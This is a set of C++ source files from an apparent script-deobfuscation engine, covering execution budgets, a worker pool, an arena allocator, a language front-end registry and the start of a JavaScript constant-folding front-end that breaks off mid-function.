/// try/catch nor the recovery engine's per-piece error handling can swallow
/// it — a budget violation always aborts the whole governed attempt.
class BudgetError : public std::runtime_error {
 public:
  BudgetError(FailureKind kind, std::string message)
      : std::runtime_error(std::move(message)), kind(kind) {}
  FailureKind kind;
};

/// A copyable handle to a shared cancellation flag. Default-constructed
/// tokens are inert (never cancelled, cancel requests dropped); create a
/// live one with `CancellationToken::make()`. Cancellation is cooperative:
/// the running engine observes it at its next Budget checkpoint.
class CancellationToken {
 public:
  CancellationToken() = default;  ///< inert: valid() == false
  static CancellationToken make();

  [[nodiscard]] bool valid() const { return state_ != nullptr; }
  void request_cancel() const {
    if (state_ != nullptr) state_->store(true, std::memory_order_relaxed);
  }
  [[nodiscard]] bool cancelled() const {
    return state_ != nullptr && state_->load(std::memory_order_relaxed);
  }

 private:
  std::shared_ptr<std::atomic<bool>> state_;
};

/// One unit of work's resource envelope. Not thread-safe (one budget serves
/// one worker); cross-thread interaction goes through the atomic-backed
/// cancellation token, which is how the batch watchdog reins in an item
/// from outside.
class Budget {
 public:
  struct Limits {
    double wall_seconds = 0.0;     ///< 0 = no deadline
    std::size_t max_bytes = 0;     ///< cumulative allocation budget; 0 = off
    CancellationToken cancel{};    ///< inert by default
  };

  Budget() = default;  ///< unlimited
  explicit Budget(const Limits& limits);

  /// The cheap per-step hook: cancellation is one relaxed atomic load; the
  /// deadline clock is only read every kStride calls. Throws BudgetError
  /// (Cancelled or Timeout).
  void checkpoint() {
    if (cancel_.cancelled()) throw_cancelled();
    if (has_deadline_ && ++tick_ >= kStride) {
      tick_ = 0;
      check_deadline_now();
    }
  }

  /// Phase-boundary hook: checks cancellation and the deadline immediately,
  /// ignoring the stride.
  void force_checkpoint() {
    if (cancel_.cancelled()) throw_cancelled();
    if (has_deadline_) check_deadline_now();
  }

  /// Cumulative allocation accounting: every engine site that materializes
  /// a large string/array/byte buffer charges its size here. Throws
  /// BudgetError(MemoryBudget) once the running total crosses the budget.
  void charge_bytes(std::size_t bytes) {
    bytes_ += bytes;
    if (max_bytes_ != 0 && bytes_ > max_bytes_) throw_memory();
  }

  /// Non-throwing probe: what would trip right now, or None.
  [[nodiscard]] FailureKind peek() const;

  /// Seconds until the deadline (infinity when none; <= 0 when expired).
  [[nodiscard]] double remaining_seconds() const;

  /// Whether any limit is configured; inactive budgets never throw.
  [[nodiscard]] bool active() const {
    return has_deadline_ || max_bytes_ != 0 || cancel_.valid();
  }
  [[nodiscard]] bool has_deadline() const { return has_deadline_; }
  [[nodiscard]] std::size_t bytes_charged() const { return bytes_; }
  [[nodiscard]] const CancellationToken& cancel_token() const { return cancel_; }

 private:
  static constexpr unsigned kStride = 256;
  using Clock = std::chrono::steady_clock;

  void check_deadline_now();
  [[noreturn]] void throw_cancelled() const;
  [[noreturn]] void throw_memory() const;

  bool has_deadline_ = false;
  Clock::time_point deadline_{};
  std::size_t max_bytes_ = 0;
  std::size_t bytes_ = 0;
  unsigned tick_ = 0;
  CancellationToken cancel_{};
};

}  // namespace ps
