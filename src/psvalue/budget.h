#pragma once

/// \file budget.h
/// The execution governor's accounting primitives. The recovery phase
/// executes attacker-controlled script pieces (paper section IV-B), so
/// hostile inputs — scripts built to stall or blow up a dynamic analyzer —
/// are the normal input distribution. A `Budget` bounds one unit of work
/// (typically one batch item) with a wall-clock deadline, a cumulative
/// allocation budget, and an external cancellation token; every engine that
/// can loop or allocate (interpreter, sandbox, recovery, multilayer
/// decoding) checkpoints against it. Budget violations raise `BudgetError`,
/// which — like the interpreter's `LimitError` — is deliberately not an
/// `EvalError`, so script-level try/catch cannot swallow it.

#include <chrono>
#include <cstddef>
#include <stdexcept>
#include <string>

#include "ideobf/failure.h"

namespace ps {

// The failure taxonomy and the cancellation primitive are part of the
// public API facade (include/ideobf/failure.h) — the server's wire schema,
// BatchItem, DeobfuscationReport and the CLI/bench JSON all speak it. The
// engine keeps its historical ps:: spellings as aliases of the one
// definition, so a failure is the same type wherever it surfaces.
using ideobf::FailureKind;
using ideobf::to_string;
using ideobf::failure_from_string;
using ideobf::failure_severity;
using ideobf::worse_failure;
using ideobf::CancellationToken;

/// Raised by Budget checkpoints. Not an EvalError, so neither script-level
/// try/catch nor the recovery engine's per-piece error handling can swallow
/// it — a budget violation always aborts the whole governed attempt.
class BudgetError : public std::runtime_error {
 public:
  BudgetError(FailureKind kind, std::string message)
      : std::runtime_error(std::move(message)), kind(kind) {}
  FailureKind kind;
};

/// One unit of work's resource envelope. Not thread-safe (one budget serves
/// one worker); cross-thread interaction goes through the atomic-backed
/// cancellation token, which is how the batch watchdog reins in an item
/// from outside.
class Budget {
 public:
  struct Limits {
    double wall_seconds = 0.0;     ///< 0 = no deadline
    std::size_t max_bytes = 0;     ///< cumulative allocation budget; 0 = off
    CancellationToken cancel{};    ///< inert by default
  };

  Budget() = default;  ///< unlimited
  explicit Budget(const Limits& limits);

  /// The cheap per-step hook: cancellation is one relaxed atomic load; the
  /// deadline clock is only read every kStride calls. Throws BudgetError
  /// (Cancelled or Timeout).
  void checkpoint() {
    if (cancel_.cancelled()) throw_cancelled();
    if (has_deadline_ && ++tick_ >= kStride) {
      tick_ = 0;
      check_deadline_now();
    }
  }

  /// Phase-boundary hook: checks cancellation and the deadline immediately,
  /// ignoring the stride.
  void force_checkpoint() {
    if (cancel_.cancelled()) throw_cancelled();
    if (has_deadline_) check_deadline_now();
  }

  /// Cumulative allocation accounting: every engine site that materializes
  /// a large string/array/byte buffer charges its size here. Throws
  /// BudgetError(MemoryBudget) once the running total crosses the budget.
  void charge_bytes(std::size_t bytes) {
    bytes_ += bytes;
    if (max_bytes_ != 0 && bytes_ > max_bytes_) throw_memory();
  }

  /// Non-throwing probe: what would trip right now, or None.
  [[nodiscard]] FailureKind peek() const;

  /// Seconds until the deadline (infinity when none; <= 0 when expired).
  [[nodiscard]] double remaining_seconds() const;

  /// Whether any limit is configured; inactive budgets never throw.
  [[nodiscard]] bool active() const {
    return has_deadline_ || max_bytes_ != 0 || cancel_.valid();
  }
  [[nodiscard]] bool has_deadline() const { return has_deadline_; }
  [[nodiscard]] std::size_t bytes_charged() const { return bytes_; }
  [[nodiscard]] const CancellationToken& cancel_token() const { return cancel_; }

 private:
  static constexpr unsigned kStride = 256;
  using Clock = std::chrono::steady_clock;

  void check_deadline_now();
  [[noreturn]] void throw_cancelled() const;
  [[noreturn]] void throw_memory() const;

  bool has_deadline_ = false;
  Clock::time_point deadline_{};
  std::size_t max_bytes_ = 0;
  std::size_t bytes_ = 0;
  unsigned tick_ = 0;
  CancellationToken cancel_{};
};

}  // namespace ps
