#include "psvalue/worker_pool.h"

#include <algorithm>

namespace ps {

/// One parallel() call. Lifetime is managed by shared_ptr: the caller, the
/// pool queue, and every staffed worker hold a reference, so the Job stays
/// alive until the last executor is done with it.
struct WorkerPool::Job {
  Job(std::size_t item_count, unsigned slot_count)
      : slots(slot_count), deques(slot_count), deque_mus(slot_count),
        remaining(item_count) {
    for (std::size_t i = 0; i < item_count; ++i) {
      deques[i % slot_count].push_back(i);
    }
  }

  const unsigned slots;
  std::vector<std::deque<std::size_t>> deques;
  std::vector<std::mutex> deque_mus;
  std::atomic<unsigned> next_slot{0};
  std::atomic<std::size_t> remaining;
  const std::function<void(std::size_t, unsigned)>* body = nullptr;

  std::mutex done_mu;
  std::condition_variable done_cv;
  bool done = false;
};

WorkerPool& WorkerPool::instance() {
  // Keep enough resident threads that a caller asking for an 8-way batch
  // gets 8 executors even on smaller machines (the extras just sleep when
  // jobs are narrower than the pool).
  static WorkerPool pool(
      std::max(8u, std::thread::hardware_concurrency()) - 1u);
  return pool;
}

WorkerPool::WorkerPool(unsigned worker_threads) {
  workers_.reserve(worker_threads);
  for (unsigned i = 0; i < worker_threads; ++i) {
    workers_.emplace_back(
        [this](const std::stop_token& stop) { worker_loop(stop); });
  }
}

WorkerPool::~WorkerPool() {
  for (auto& w : workers_) w.request_stop();
  cv_.notify_all();
  // jthread destructors join.
}

unsigned WorkerPool::worker_count() const {
  return static_cast<unsigned>(workers_.size());
}

std::uint64_t WorkerPool::steal_count() const {
  return steals_.load(std::memory_order_relaxed);
}

std::uint64_t WorkerPool::job_count() const {
  return jobs_.load(std::memory_order_relaxed);
}

void WorkerPool::worker_loop(const std::stop_token& stop) {
  for (;;) {
    std::shared_ptr<Job> job;
    {
      std::unique_lock lk(mu_);
      cv_.wait(lk, stop, [this] { return !queue_.empty(); });
      if (stop.stop_requested()) return;
      if (queue_.empty()) continue;
      job = queue_.front();
    }
    const unsigned slot = job->next_slot.fetch_add(1);
    if (slot >= job->slots) {
      // Fully staffed: drop it from the queue so the pool can move on.
      retire(job);
      continue;
    }
    run_slot(*job, slot);
    retire(job);
  }
}

void WorkerPool::run_slot(Job& job, unsigned slot) {
  std::size_t item = 0;
  while (pop_or_steal(job, slot, item)) {
    (*job.body)(item, slot);
    if (job.remaining.fetch_sub(1, std::memory_order_acq_rel) == 1) {
      std::lock_guard lk(job.done_mu);
      job.done = true;
      job.done_cv.notify_all();
    }
  }
}

bool WorkerPool::pop_or_steal(Job& job, unsigned slot, std::size_t& item) {
  {
    std::lock_guard lk(job.deque_mus[slot]);
    if (!job.deques[slot].empty()) {
      item = job.deques[slot].front();
      job.deques[slot].pop_front();
      return true;
    }
  }
  // Steal from the back of the other slots, scanning from our right-hand
  // neighbour so thieves spread out instead of mobbing slot 0.
  for (unsigned k = 1; k < job.slots; ++k) {
    const unsigned victim = (slot + k) % job.slots;
    std::lock_guard lk(job.deque_mus[victim]);
    if (!job.deques[victim].empty()) {
      item = job.deques[victim].back();
      job.deques[victim].pop_back();
      steals_.fetch_add(1, std::memory_order_relaxed);
      return true;
    }
  }
  return false;
}

void WorkerPool::retire(const std::shared_ptr<Job>& job) {
  std::lock_guard lk(mu_);
  for (auto it = queue_.begin(); it != queue_.end(); ++it) {
    if (*it == job) {
      queue_.erase(it);
      break;
    }
  }
}

void WorkerPool::parallel(
    std::size_t item_count, unsigned max_workers,
    const std::function<void(std::size_t, unsigned)>& body) {
  if (item_count == 0) return;
  if (max_workers == 0) max_workers = 1;
  const auto slot_count = static_cast<unsigned>(
      std::min<std::size_t>(max_workers, item_count));

  auto job = std::make_shared<Job>(item_count, slot_count);
  job->body = &body;

  if (slot_count > 1) {
    {
      std::lock_guard lk(mu_);
      queue_.push_back(job);
    }
    cv_.notify_all();
  }

  const unsigned slot = job->next_slot.fetch_add(1);
  if (slot < job->slots) run_slot(*job, slot);

  {
    std::unique_lock lk(job->done_mu);
    job->done_cv.wait(lk, [&] { return job->done; });
  }
  retire(job);
  jobs_.fetch_add(1, std::memory_order_relaxed);
}

}  // namespace ps
