#include "psvalue/arena.h"

#include <cstdint>

namespace ps {
namespace {

/// Chunks from dead arenas, parked per-thread for the next parse on this
/// thread. Bounded so pathological inputs cannot pin memory forever. With
/// the persistent worker pool the same threads parse over and over, so the
/// steady state is zero allocator traffic for chunk storage.
constexpr std::size_t kMaxParkedChunks = 8;

struct ThreadFreelist {
  std::vector<std::unique_ptr<std::byte[]>> chunks;
  std::vector<std::size_t> capacities;
};

ThreadFreelist& freelist() {
  thread_local ThreadFreelist list;
  return list;
}

}  // namespace

Arena::~Arena() {
  // Reverse order: children are constructed before parents, and parent
  // nodes hold vectors of child handles.
  for (auto it = finalizers_.rbegin(); it != finalizers_.rend(); ++it) {
    it->destroy(it->object);
  }
  ThreadFreelist& list = freelist();
  for (auto& chunk : chunks_) {
    if (list.chunks.size() >= kMaxParkedChunks) break;
    list.chunks.push_back(std::move(chunk.mem));
    list.capacities.push_back(chunk.capacity);
  }
}

void* Arena::allocate(std::size_t bytes, std::size_t align) {
  auto addr = reinterpret_cast<std::uintptr_t>(cursor_);
  std::uintptr_t aligned = (addr + (align - 1)) & ~std::uintptr_t(align - 1);
  std::size_t padding = aligned - addr;
  if (cursor_ == nullptr || padding + bytes > std::size_t(limit_ - cursor_)) {
    grow(bytes + align);
    addr = reinterpret_cast<std::uintptr_t>(cursor_);
    aligned = (addr + (align - 1)) & ~std::uintptr_t(align - 1);
    padding = aligned - addr;
  }
  cursor_ = reinterpret_cast<std::byte*>(aligned) + bytes;
  bytes_allocated_ += bytes;
  return reinterpret_cast<void*>(aligned);
}

void Arena::grow(std::size_t min_bytes) {
  std::size_t want = kDefaultChunkBytes;
  if (!chunks_.empty()) {
    want = chunks_.back().capacity * 2;
    if (want > kMaxChunkBytes) want = kMaxChunkBytes;
  }
  if (want < min_bytes) want = min_bytes;

  Chunk chunk;
  ThreadFreelist& list = freelist();
  for (std::size_t i = 0; i < list.chunks.size(); ++i) {
    if (list.capacities[i] >= want) {
      chunk.mem = std::move(list.chunks[i]);
      chunk.capacity = list.capacities[i];
      list.chunks.erase(list.chunks.begin() + static_cast<std::ptrdiff_t>(i));
      list.capacities.erase(list.capacities.begin() +
                            static_cast<std::ptrdiff_t>(i));
      break;
    }
  }
  if (chunk.mem == nullptr) {
    chunk.mem = std::make_unique<std::byte[]>(want);
    chunk.capacity = want;
  }
  cursor_ = chunk.mem.get();
  limit_ = cursor_ + chunk.capacity;
  chunks_.push_back(std::move(chunk));
}

std::size_t Arena::thread_freelist_size() { return freelist().chunks.size(); }

void Arena::trim_thread_freelist() {
  freelist().chunks.clear();
  freelist().capacities.clear();
}

}  // namespace ps
