#pragma once

/// \file frontends/registry.h
/// The front-end registry: maps the `language` field of `ideobf::Request`
/// to a `LanguageFrontend` factory. PowerShell and JavaScript are built in;
/// the registry is extensible so a new language is one `register_frontend`
/// call away (front-end author checklist: docs/API.md).
///
/// Factories, not instances: a front-end may share engine infrastructure
/// (the PowerShell adapter holds the engine's ps::ParseCache, so the
/// parse-once pipeline keeps working), so each InvokeDeobfuscator
/// instantiates its own set at construction.

#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "frontends/frontend.h"

namespace ps {
class ParseCache;
}  // namespace ps

namespace ideobf {

class FrontendRegistry {
 public:
  /// Builds one front-end for one engine. `options` are the engine's
  /// configured options; `parse_cache` is the engine's shared parse cache
  /// (null when parse caching is off) — front-ends that do not use it
  /// ignore it.
  using Factory = std::function<std::shared_ptr<const LanguageFrontend>(
      const Options& options, std::shared_ptr<ps::ParseCache> parse_cache)>;

  /// The process-wide registry, with the built-in front-ends
  /// ("powershell", "javascript") pre-registered.
  static FrontendRegistry& instance();

  /// Registers (or, for an existing name, replaces) a front-end factory.
  /// Thread-safe; engines constructed afterwards see the new factory.
  void register_frontend(std::string name, Factory factory);

  /// Whether `name` is a registered language (exact, case-sensitive;
  /// "auto" is not a language — callers accepting it check separately).
  [[nodiscard]] bool has(std::string_view name) const;

  /// Registered language names, registration order (default first).
  [[nodiscard]] std::vector<std::string> names() const;

  /// Instantiates every registered front-end for one engine, registration
  /// order. This is what InvokeDeobfuscator calls at construction.
  [[nodiscard]] std::vector<std::shared_ptr<const LanguageFrontend>>
  create_all(const Options& options,
             const std::shared_ptr<ps::ParseCache>& parse_cache) const;

 private:
  FrontendRegistry();
  mutable std::mutex mu_;
  std::vector<std::pair<std::string, Factory>> entries_;
};

/// Whether `language` is acceptable on a request: empty (the default),
/// "auto", or a registered language name.
[[nodiscard]] bool valid_request_language(std::string_view language);

/// Resolves "auto" against `source` using lightweight default-configured
/// front-ends: highest sniff score wins, ties to the default language.
/// Deterministic per source text — the same bytes always resolve to the
/// same language, which is what makes "auto" sound as a shared-cache key
/// component.
[[nodiscard]] std::string_view sniff_language(std::string_view source);

}  // namespace ideobf
