#include "frontends/registry.h"

#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "frontends/js_frontend.h"
#include "frontends/ps_frontend.h"

namespace ideobf {

FrontendRegistry& FrontendRegistry::instance() {
  // Leaked singleton: the registry is process-lifetime (engines constructed
  // during static destruction of other TUs must still find it).
  static FrontendRegistry* registry = new FrontendRegistry();
  return *registry;
}

FrontendRegistry::FrontendRegistry() {
  // Built-ins, registration order = sniff tie-break order: the default
  // language is first, so an ambiguous source resolves to PowerShell.
  entries_.emplace_back(
      std::string(kDefaultLanguage),
      [](const Options& /*options*/, std::shared_ptr<ps::ParseCache> cache) {
        return make_ps_frontend(std::move(cache));
      });
  entries_.emplace_back(
      "javascript",
      [](const Options& /*options*/, std::shared_ptr<ps::ParseCache>) {
        return make_js_frontend();
      });
}

void FrontendRegistry::register_frontend(std::string name, Factory factory) {
  const std::lock_guard<std::mutex> lock(mu_);
  for (auto& [existing, slot] : entries_) {
    if (existing == name) {
      slot = std::move(factory);
      return;
    }
  }
  entries_.emplace_back(std::move(name), std::move(factory));
}

bool FrontendRegistry::has(std::string_view name) const {
  const std::lock_guard<std::mutex> lock(mu_);
  for (const auto& [existing, factory] : entries_) {
    if (existing == name) return true;
  }
  return false;
}

std::vector<std::string> FrontendRegistry::names() const {
  const std::lock_guard<std::mutex> lock(mu_);
  std::vector<std::string> out;
  out.reserve(entries_.size());
  for (const auto& [name, factory] : entries_) out.push_back(name);
  return out;
}

std::vector<std::shared_ptr<const LanguageFrontend>>
FrontendRegistry::create_all(
    const Options& options,
    const std::shared_ptr<ps::ParseCache>& parse_cache) const {
  std::vector<std::pair<std::string, Factory>> snapshot;
  {
    const std::lock_guard<std::mutex> lock(mu_);
    snapshot = entries_;
  }
  std::vector<std::shared_ptr<const LanguageFrontend>> out;
  out.reserve(snapshot.size());
  for (const auto& [name, factory] : snapshot) {
    out.push_back(factory(options, parse_cache));
  }
  return out;
}

bool valid_request_language(std::string_view language) {
  return language.empty() || language == kAutoLanguage ||
         FrontendRegistry::instance().has(language);
}

std::string_view sniff_language(std::string_view source) {
  // Front-ends are pure policy, so one default-configured set (no parse
  // cache — sniffing never parses) scores sources for every caller.
  // Snapshot at first use; process-lifetime.
  static const auto* sniffers =
      new std::vector<std::shared_ptr<const LanguageFrontend>>(
          FrontendRegistry::instance().create_all(Options{}, nullptr));
  const LanguageFrontend* best = nullptr;
  double best_score = -1.0;
  for (const auto& frontend : *sniffers) {
    const double score = frontend->sniff(source);
    // Strictly greater: registration order (default language first) breaks
    // ties, so ambiguous text stays PowerShell.
    if (score > best_score) {
      best = frontend.get();
      best_score = score;
    }
  }
  return best != nullptr ? best->name() : kDefaultLanguage;
}

}  // namespace ideobf
