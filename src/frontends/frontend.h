#pragma once

/// \file frontends/frontend.h
/// The language boundary of the deobfuscation core (DESIGN.md §12).
///
/// The paper's recovery loop — parse, classify recoverable nodes,
/// sandbox-evaluate, replace in extent, iterate to a fixed point — is
/// language-generic; only the grammar, the evaluator, and the token policy
/// are PowerShell-specific. `LanguageFrontend` is that cut: the pipeline in
/// `InvokeDeobfuscator` (governor ladder, fixed-point loop, per-phase
/// syntax checks with rollback, budget checkpoints, stat merging, trace
/// collection) programs against this interface, and everything that knows a
/// concrete syntax lives behind it:
///
///   - parser + syntax check (`syntax_ok`) — the per-step rollback oracle;
///   - token policy (`token_pass`) — attribute-level normalization (ticks /
///     case / aliases for PowerShell; bracket-member rewriting for JS);
///   - recoverable-node classifier + piece evaluator (`recovery_pass`) —
///     variable tracing and extent replacement, with whatever evaluation
///     ladder the language has (fold → bytecode → tree-walk for PS, a
///     constant folder for JS);
///   - multilayer unwrapping (`unwrap_layers`) — the language's eval-like
///     disguises, recursing through the supplied callback so nested layers
///     run the full language-generic pipeline;
///   - rename + reformat policies;
///   - a sniffing score (`sniff`) for `language: "auto"` dispatch;
///   - a memo salt (`memo_language_salt`) so one engine-global RecoveryMemo
///     can be shared across front-ends without identical piece bytes ever
///     aliasing across languages.
///
/// Front-ends are registered in `FrontendRegistry` (frontends/registry.h)
/// keyed by the `language` field of `ideobf::Request`; PowerShell is the
/// first registered front-end and the default language.
///
/// Thread-safety contract: a front-end instance is const-shared by every
/// call, batch slot, and server session of one engine — all methods must be
/// const-callable from any number of threads (internal caches must be
/// thread-safe, like ps::ParseCache).

#include <cstddef>
#include <functional>
#include <string>
#include <string_view>

#include "core/recovery.h"
#include "core/trace.h"
#include "ideobf/options.h"
#include "ideobf/report.h"

namespace ps {
class Budget;
}  // namespace ps

namespace ideobf {

class FaultInjector;

/// The default language: requests with an empty `language` run under it.
inline constexpr std::string_view kDefaultLanguage = "powershell";
/// The sniffing pseudo-language: resolved to a concrete front-end per
/// request by scoring the source against every registered front-end.
inline constexpr std::string_view kAutoLanguage = "auto";

/// Per-call plumbing the pipeline threads into the execution-bearing phases
/// (recovery, multilayer). All pointers are non-owning and may be null.
struct FrontendPhaseContext {
  /// The effective options of this attempt (already rung-tightened by the
  /// governor; limits/recovery knobs apply as configured).
  const Options* opts = nullptr;
  /// The attempt's execution budget; checkpoint/charge against it so
  /// deadline, allocation and cancellation aborts propagate. Null when the
  /// call is ungoverned.
  ps::Budget* budget = nullptr;
  /// The piece-execution memo for this run (engine-global, session, or
  /// run-local — the core decides). Null when memoization is off.
  RecoveryMemo* memo = nullptr;
  /// Fault-injection test hook; arm the language's execution sites when
  /// non-null.
  FaultInjector* fault = nullptr;
};

/// One language behind the pipeline. Implementations must be pure policy:
/// hold no per-call state, seal nothing (the governor classifies thrown
/// BudgetError/FaultError), and keep every method total — input that does
/// not parse is returned unchanged, exactly like the PowerShell passes.
class LanguageFrontend {
 public:
  /// Recursive hook handed to `unwrap_layers`: runs an extracted payload
  /// through the full language-generic pipeline (token/recovery/multilayer
  /// to a fixed point) one layer deeper.
  using Recurse = std::function<std::string(std::string_view)>;

  virtual ~LanguageFrontend() = default;

  /// Stable lowercase registry key ("powershell", "javascript").
  [[nodiscard]] virtual std::string_view name() const = 0;

  /// Whether `text` parses. This is the per-step rollback oracle: a phase
  /// whose output fails it is skipped, so pipeline output is always valid
  /// when the input was.
  [[nodiscard]] virtual bool syntax_ok(std::string_view text) const = 0;

  /// Phase 1 — token-attribute normalization.
  [[nodiscard]] virtual std::string token_pass(std::string_view text,
                                               TokenPassStats& stats,
                                               TraceSink* trace) const = 0;

  /// Phase 2 — AST recovery: trace variables, evaluate recoverable pieces
  /// (through ctx.memo / ctx.budget), replace extents post-order.
  [[nodiscard]] virtual std::string recovery_pass(
      std::string_view text, const FrontendPhaseContext& ctx,
      RecoveryStats& stats, TraceSink* trace) const = 0;

  /// Phase 2b — multilayer unwrapping: recognize the language's eval-like
  /// wrappers, decode literal payloads, and inline `recurse(payload)`.
  [[nodiscard]] virtual std::string unwrap_layers(
      std::string_view text, const FrontendPhaseContext& ctx,
      MultilayerStats& stats, TraceSink* trace,
      const Recurse& recurse) const = 0;

  /// Phase 3a — identifier renaming policy.
  [[nodiscard]] virtual std::string rename_pass(std::string_view text,
                                                RenameStats& stats,
                                                TraceSink* trace) const = 0;

  /// Phase 3b — reformatting policy.
  [[nodiscard]] virtual std::string reformat_pass(
      std::string_view text) const = 0;

  /// How strongly `source` looks like this language, in [0, 1]. Used only
  /// for `language: "auto"`: the highest-scoring registered front-end wins,
  /// ties resolving to the default language. Must be cheap (lexical
  /// heuristics, no full parse of adversarial input).
  [[nodiscard]] virtual double sniff(std::string_view source) const = 0;

  /// Salt mixed into every RecoveryMemo context fingerprint this front-end
  /// produces. Distinct per language (0 is reserved for PowerShell, whose
  /// fingerprints predate front-ends), so identical piece bytes submitted
  /// under different languages can never alias to one memoized literal on
  /// the shared engine-global memo.
  [[nodiscard]] virtual std::size_t memo_language_salt() const = 0;
};

}  // namespace ideobf
