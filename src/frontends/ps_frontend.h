#pragma once

/// \file frontends/ps_frontend.h
/// The PowerShell front-end: the original Invoke-Deobfuscation passes
/// (token_pass / recovery_pass / unwrap_layers / rename_pass /
/// reformat_pass) adapted behind the LanguageFrontend interface with zero
/// behavior change. The parse-once plumbing — routing the per-step syntax
/// checks, the recovery AST input, and the multilayer scan through one
/// ps::ParseCache — lives here now instead of in the core loop, since it is
/// a PowerShell-substrate concern.

#include <memory>

#include "frontends/frontend.h"

namespace ps {
class ParseCache;
}  // namespace ps

namespace ideobf {

/// Builds the PowerShell front-end for one engine. `parse_cache` may be
/// null (the pre-cache pipeline: every step re-parses; output identical).
[[nodiscard]] std::shared_ptr<const LanguageFrontend> make_ps_frontend(
    std::shared_ptr<ps::ParseCache> parse_cache);

}  // namespace ideobf
