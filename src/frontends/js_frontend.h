#pragma once

/// \file frontends/js_frontend.h
/// The JavaScript front-end: a minimal, wild-idiom-focused implementation
/// of the LanguageFrontend contract on the src/jslang/ substrate (mini
/// lexer / parser / constant evaluator). Covers the obfuscation patterns
/// that dominate in-the-wild JS droppers:
///
///   - `eval('...')` / `window.eval` / `Function('...')()` layer wrapping
///     (multilayer unwrap, recursed through the generic pipeline);
///   - string assembly: `'a' + 'b'`, `String.fromCharCode(...)`, `atob`,
///     `unescape` / `decodeURIComponent`, hex/unicode escapes,
///     `split/reverse/join` (recovery: constant folding + variable
///     tracing, with extent replacement);
///   - bracket-member obfuscation: `obj["prop"]` -> `obj.prop`
///     (token pass);
///   - obfuscator-kit identifiers: `_0x1a2b3c` -> `var{n}` (rename).
///
/// Not a JavaScript engine: anything beyond the supported constant subset
/// is left byte-for-byte untouched, and input that does not parse under the
/// mini grammar is returned unchanged — the same totality contract as the
/// PowerShell passes.

#include <memory>

#include "frontends/frontend.h"

namespace ideobf {

/// Builds the JavaScript front-end. Stateless policy; one instance may be
/// shared by any number of engines.
[[nodiscard]] std::shared_ptr<const LanguageFrontend> make_js_frontend();

}  // namespace ideobf
