#include "frontends/js_frontend.h"

#include <algorithm>
#include <cctype>
#include <cstddef>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "core/fault.h"
#include "core/recovery.h"
#include "jslang/eval.h"
#include "jslang/lexer.h"
#include "jslang/parser.h"
#include "psvalue/budget.h"
#include "telemetry/telemetry.h"

namespace ideobf {

namespace {

using jslang::JsValue;
using jslang::Node;

struct Replacement {
  std::size_t begin = 0;
  std::size_t end = 0;
  std::string text;
};

/// Applies non-overlapping extent replacements (any order) to `source`.
std::string splice(std::string_view source, std::vector<Replacement> repls) {
  std::sort(repls.begin(), repls.end(),
            [](const Replacement& a, const Replacement& b) {
              return a.begin < b.begin;
            });
  std::string out;
  out.reserve(source.size());
  std::size_t cursor = 0;
  for (const Replacement& r : repls) {
    if (r.begin < cursor || r.end > source.size()) continue;  // defensive
    out.append(source.substr(cursor, r.begin - cursor));
    out.append(r.text);
    cursor = r.end;
  }
  out.append(source.substr(cursor));
  return out;
}

/// The innermost Ident a write target resolves to (`a` in `a.b[0] = x`),
/// or nullptr when the base is not a plain identifier.
const Node* write_target_base(const Node& target) {
  const Node* n = &target;
  while ((n->kind == Node::Kind::Member || n->kind == Node::Kind::Index) &&
         !n->kids.empty()) {
    n = n->kids[0].get();
  }
  return n->kind == Node::Kind::Ident ? n : nullptr;
}

/// Scans the whole tree (function bodies included — an inner assignment
/// still mutates the outer binding) for names that are written outside
/// their declarator, plus names declared more than once. Either
/// disqualifies a variable from single-assignment tracing.
void scan_mutations(const Node& n, std::set<std::string>& mutated,
                    std::map<std::string, int>& decl_counts,
                    bool in_for_header) {
  switch (n.kind) {
    case Node::Kind::Assign:
    case Node::Kind::Update:
      if (!n.kids.empty()) {
        if (const Node* base = write_target_base(*n.kids[0])) {
          mutated.insert(base->name);
        }
      }
      break;
    case Node::Kind::VarDecl:
      for (const auto& d : n.kids) {
        ++decl_counts[d->name];
        // A declaration in a for-header is a loop variable: written every
        // iteration even without a visible assignment.
        if (in_for_header) mutated.insert(d->name);
      }
      break;
    case Node::Kind::FunctionDecl:
      mutated.insert(n.name);  // callable, not a constant
      break;
    default:
      break;
  }
  const bool for_header = n.kind == Node::Kind::For;
  for (const auto& kid : n.kids) {
    scan_mutations(*kid, mutated, decl_counts, for_header);
  }
}

bool is_statement(Node::Kind k) {
  switch (k) {
    case Node::Kind::VarDecl:
    case Node::Kind::Declarator:
    case Node::Kind::ExprStmt:
    case Node::Kind::Block:
    case Node::Kind::If:
    case Node::Kind::While:
    case Node::Kind::DoWhile:
    case Node::Kind::For:
    case Node::Kind::Return:
    case Node::Kind::Throw:
    case Node::Kind::Try:
    case Node::Kind::BreakStmt:
    case Node::Kind::ContinueStmt:
    case Node::Kind::FunctionDecl:
    case Node::Kind::Empty:
      return true;
    default:
      return false;
  }
}

/// One traced constant binding: value plus where its declarator ends, so
/// only uses *after* the declaration substitute (hoisted earlier uses read
/// `undefined`, not the value).
struct Binding {
  JsValue value;
  std::size_t decl_end = 0;
};

/// The recovery walk of one pass: traces single-assignment top-level
/// variables in statement order and folds constant subtrees largest-first
/// into literal replacements. One instance per recovery_pass call; the
/// front-end object itself stays stateless.
class Folder {
 public:
  Folder(std::string_view text, const jslang::EvalLimits& limits,
         const FrontendPhaseContext& ctx, std::size_t memo_context,
         std::set<std::string> untraceable, RecoveryStats& stats,
         TraceSink* trace)
      : text_(text),
        limits_(limits),
        ctx_(ctx),
        memo_context_(memo_context),
        untraceable_(std::move(untraceable)),
        stats_(stats),
        trace_(trace) {}

  std::vector<Replacement> run(const std::vector<jslang::NodePtr>& stmts) {
    // Statements in source order: each statement folds against the
    // bindings completed by earlier statements, then contributes its own.
    for (const auto& stmt : stmts) fold_statement(*stmt);
    return std::move(repls_);
  }

 private:
  /// Restricts env to bindings declared before `position` (top-level
  /// statements run in order; a hoisted use before the declarator reads
  /// `undefined`, so substituting the value there would be wrong).
  [[nodiscard]] std::map<std::string, JsValue> visible_env(
      std::size_t position) const {
    std::map<std::string, JsValue> out;
    for (const auto& [name, binding] : env_) {
      if (binding.decl_end <= position) out.emplace(name, binding.value);
    }
    return out;
  }

  /// Whether folding should attempt to evaluate this node kind at all
  /// (literals stay put; composite expressions are worth a try).
  static bool fold_candidate(const Node& n) {
    switch (n.kind) {
      case Node::Kind::Binary:
      case Node::Kind::Call:
      case Node::Kind::Index:
